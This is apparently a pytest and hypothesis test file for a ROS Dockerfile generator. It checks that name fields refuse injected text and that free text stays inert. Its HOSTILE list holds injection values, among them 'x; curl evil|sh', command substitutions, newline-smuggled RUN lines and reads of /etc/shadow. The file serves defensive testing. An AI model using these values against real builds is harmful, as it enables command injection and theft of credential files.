"""Hostile text is refused, or stands in the Dockerfile as nothing but text: as a real parser and a shell see it."""

from __future__ import annotations

import json
import shlex
import subprocess
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from robot_offload.errors import SpecError
from robot_offload.images import quoting
from robot_offload.images.dockerfiles import dockerfile
from tests.unit.operator.images import parsed
from tests.unit.operator.images.specs import build_spec

HOSTILE = (
    "x; curl evil|sh",
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "x' && touch /tmp/owned '",
    'x" && touch /tmp/owned "',
    "x\nRUN touch /tmp/owned",
    "x\r\nRUN touch /tmp/owned",
    "x\u2028RUN touch /tmp/owned",
    "x\x85RUN touch /tmp/owned",
    "x\x0bRUN touch",
    "x\x00y",
    "x \\",
    "x\\\nUSER 0",
    "--from=evil /etc/shadow",
    "-oProxyCommand=touch",
    "../../etc/shadow",
    "/etc/shadow",
    "${PATH}",
    "# escape=`",
    "<<EOF",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "x\u202ey",
    "\uff4eame",
    "",
)
# Where only a pattern's few characters may stand: each field, and how it is given.
STRICT: dict[str, Callable[[str], dict[str, Any]]] = {
    "apt package": lambda text: {"aptPackages": [text]},
    "pip package": lambda text: {"pipPackages": [text]},
    "git url": lambda text: {"workspace": None, "git": {"url": text}},
    "git ref": lambda text: {"workspace": None, "git": {"url": "https://git.example/r", "ref": text}},
    "git path": lambda text: {"workspace": None, "git": {"url": "https://git.example/r", "paths": [text]}},
    "workspace path": lambda text: {"workspace": {"paths": [text]}},
    "repos file": lambda text: {"workspace": None, "repos": {"file": text}},
    "package": lambda text: {"package": text},
    "executable": lambda text: {"executable": text},
    "launch file": lambda text: {"executable": None, "launch": text},
    "base": lambda text: {"base": text},
    "runtime base": lambda text: {"runtimeBase": text},
    "rmw": lambda text: {"rmw": text},
    "rosdep key": lambda text: {"skipKeys": [text]},
    "cmake argument": lambda text: {"cmakeArguments": [text]},
    "variable name": lambda text: {"env": [{"name": text, "value": "1"}]},
    "label name": lambda text: {"labels": {text: "1"}},
    "node": lambda text: {"node": text, "autostart": True},
    "discovery server": lambda text: {"environment": {"discoveryServers": [text]}},
    "static peer": lambda text: {"environment": {"staticPeers": [text]}},
}
# A node may be called so.
HARMLESS = ("node", "/etc/shadow")


def changed(field: str, text: str) -> str:
    """The Dockerfile with `text` in a field that takes few characters."""
    return dockerfile(build_spec(**STRICT[field](text)))


@pytest.mark.parametrize(
    ("field", "text"), [(field, text) for field in STRICT for text in HOSTILE if (field, text) != HARMLESS]
)
def test_a_field_for_names_refuses_hostile_text(field: str, text: str) -> None:
    with pytest.raises(SpecError) as refused:
        changed(field, text)
    for line in refused.value.lines:
        assert line.isprintable(), "the message itself must not carry the text to a terminal"


@pytest.mark.parametrize("field", STRICT)
@given(text=st.text(alphabet="ab1/.:@=-_+ ;$`'\"\\#<>(){}|&*?~!\n\r\t", min_size=1, max_size=12))
def test_what_a_field_for_names_takes_changes_no_instruction(field: str, text: str) -> None:
    try:
        made = changed(field, text)
    except SpecError:
        return
    assert kinds(made) == kinds(changed(field, BENIGN[field]))
    for command in parsed.shell_commands(made):
        done = subprocess.run(["sh", "-n"], input=command, text=True, capture_output=True, check=False)
        assert (done.returncode, done.stderr) == (0, ""), command


BENIGN = {
    "apt package": "libfoo",
    "pip package": "numpy",
    "git url": "https://git.example/r",
    "git ref": "main",
    "git path": "src",
    "workspace path": "src",
    "repos file": "a.repos",
    "package": "controller",
    "executable": "server",
    "launch file": "a.launch.py",
    "base": "image:1",
    "runtime base": "image:1",
    "rmw": "rmw_fastrtps_cpp",
    "rosdep key": "key",
    "cmake argument": "-DA=b",
    "variable name": "NAME",
    "label name": "name",
    "node": "/talker",
    "discovery server": "host:11811",
    "static peer": "host",
}


def kinds(text: str) -> list[str]:
    """The kinds of all instructions in order."""
    return [name for name, _ in parsed.instructions(text)]


VISIBLE = st.text(alphabet=st.characters(exclude_categories=("C", "Zl", "Zp")), max_size=60)


@given(value=VISIBLE)
@example(value="say \"hello\" to $USER \\ and `date` # 'quoted' ${HOME} \\$x \\\\ ")
@example(value="\\")
@example(value="<<EOF")
@example(value="# escape=`")
def test_free_text_stands_in_variables_labels_and_arguments_as_it_is(value: str) -> None:
    made = dockerfile(build_spec(env=[{"name": "FREE", "value": value}], labels={"free": value}, arguments=[value]))
    plain = dockerfile(build_spec(env=[{"name": "FREE", "value": "x"}], labels={"free": "x"}, arguments=["x"]))
    assert kinds(made) == kinds(plain)
    assert unquoted(dict(parsed.assignments(made))["FREE"]) == value
    assert unquoted(dict(parsed.assignments(made))["free"]) == value
    command = [text for name, text in parsed.instructions(made) if name == "CMD"]
    assert [json.loads(text) for text in command] == [["ros2", "run", "controller", "controller_server", value]]


@pytest.mark.parametrize("text", [text for text in HOSTILE if not text.isprintable()])
def test_free_text_refuses_what_cannot_be_seen(text: str) -> None:
    for changes in ({"env": [{"name": "A", "value": text}]}, {"labels": {"a": text}}, {"arguments": [text]}):
        with pytest.raises(SpecError, match="cannot be seen"):
            build_spec(**changes)


def unquoted(text: str) -> str:
    """What a builder makes of a value in double quotes: a backslash takes the meaning of one character away."""
    assert text[0] == text[-1] == '"'
    result, characters = "", iter(text[1:-1])
    for character in characters:
        assert character not in '"$', "unescaped: the builder would expand or end here"
        result += next(characters) if character == "\\" else character
    return result


@given(words=st.lists(VISIBLE, min_size=1, max_size=4))
def test_the_shell_filter_gives_back_the_same_words(words: list[str]) -> None:
    assert shlex.split(quoting.shell_words(words)) == words
    shown = f"printf '%s\\n' {quoting.shell_words(words)}"
    assert subprocess.check_output(["sh", "-c", shown], text=True) == "".join(f"{word}\n" for word in words)


@given(text=st.lists(VISIBLE, min_size=1, max_size=5).map("\n".join).filter(lambda text: text.splitlines() != []))
def test_a_file_is_written_line_by_line_as_it_is(text: str) -> None:
    command = f"printf '%s\\n' {quoting.file_lines(text)}"
    assert subprocess.check_output(["bash", "-c", command], text=True).split("\n")[:-1] == text.splitlines()


@pytest.mark.parametrize("filter_name", ["shell", "quoted"])
@pytest.mark.parametrize("text", ["a\nb", "a\rb"])
def test_a_filter_refuses_a_second_line_even_if_a_type_let_it_pass(filter_name: str, text: str) -> None:
    with pytest.raises(ValueError, match="more than one line"):
        quoting.FILTERS[filter_name](text)
